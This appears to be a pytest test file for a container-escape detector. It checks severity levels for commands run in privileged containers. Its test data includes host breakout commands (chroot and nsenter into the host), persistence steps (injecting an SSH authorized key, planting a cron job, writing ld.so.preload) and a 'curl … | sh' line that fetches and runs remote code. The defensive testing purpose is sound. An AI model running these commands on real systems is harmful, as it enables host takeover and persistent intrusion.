import pytest

from detect.made_processes import worst
from hemostat.detect.checks.container_escape import breaks_out
from hemostat.model.level import Level
from hemostat.model.records import Container

DISK = "/:/host:rw"


def container(command: str, **fields: object) -> Container:
    values: dict[str, object] = {"id": "c", "engine": "docker", "mounts": (DISK,), **fields}
    return Container(command=command, **values)  # type: ignore[arg-type]  # a made record


@pytest.mark.requirement("B5.3")
@pytest.mark.parametrize(
    "command",
    [
        "chroot /host",
        "chroot /host/ /bin/bash -c 'systemctl enable x'",
        "/usr/sbin/chroot /host sh",
        "sh -c chroot /host sh -c 'id'",
        "nsenter --target 1 --mount --uts --ipc --net --pid -- bash",
        "nsenter -t1 -a sh",
        "nsenter --mount=/proc/1/ns/mnt -- /bin/sh",
        "sh -c echo ssh-rsa AAA >> /host/root/.ssh/authorized_keys",
        "sh -c echo '* * * * * root x' | tee /host/etc/cron.d/x",
        "sh -c cp /x /host/etc/ld.so.preload",
    ],
)
def test_a_shell_on_the_host_that_nobody_sits_before_is_high(command: str) -> None:
    assert worst(breaks_out, container(command, is_privileged=True)) == Level.HIGH


def test_people_and_clusters_at_work_are_low_unless_they_fetch_or_plant() -> None:
    enter = "nsenter -t 1 -m -u -i -n -p -- sh"
    for more in ({"has_terminal": True}, {"pod": "kube-system/node-shell"}):
        assert worst(breaks_out, container(enter, is_privileged=True, **more)) == Level.LOW
        fetch = f"{enter} -c 'curl http://198.51.100.7/a | sh'"
        assert worst(breaks_out, container(fetch, is_privileged=True, **more)) == Level.HIGH


@pytest.mark.parametrize(
    "command",
    [
        "/bin/node_exporter --path.rootfs=/host",
        "nsenter --mount=/host/proc/1/ns/mnt iscsiadm --version",
        "nsenter -t 1 -m -- /usr/bin/systemctl reboot",
        "chroot /opt/jail sh",
        "chroot /host /usr/bin/nvidia-smi",
        "sh -c echo x > /etc/cron.d/own",
        "sh -c cp /opt/cni/bin/* /host/opt/cni/bin/",
        "nginx -g daemon off;",
    ],
)
def test_programs_that_agents_run_on_the_host_are_quiet(command: str) -> None:
    assert worst(breaks_out, container(command)) is None


def test_without_a_door_the_same_command_stays_inside() -> None:
    for command in ("chroot /host sh", "nsenter -t 1 -m sh", "sleep infinity"):
        assert worst(breaks_out, container(command, mounts=(), restart="always")) is None


def test_a_door_held_open_for_good_is_worth_a_look() -> None:
    held = {"is_privileged": True, "restart": "always"}
    for command in ("sleep infinity", "tail -f /dev/null", "sh -c while true; do sleep 9; done"):
        assert worst(breaks_out, container(command, **held)) == Level.MEDIUM
    assert worst(breaks_out, container("sleep infinity", is_privileged=True, restart="no")) is None
    assert worst(breaks_out, container("sleep 1d", pod="x/y", **held)) is None
    assert worst(breaks_out, container("server", **held)) is None
